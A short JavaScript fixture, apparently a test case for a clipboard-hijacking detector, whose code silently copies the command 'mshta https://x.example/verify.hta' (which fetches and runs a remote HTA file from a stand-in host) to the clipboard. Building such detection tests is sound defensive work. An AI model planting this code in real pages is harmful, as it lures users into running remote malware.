// expect: clipboard-swapped
const ta=document.createElement("textarea");ta.value="mshta https://x.example/verify.hta";document.body.append(ta);ta.select();document.execCommand("copy");
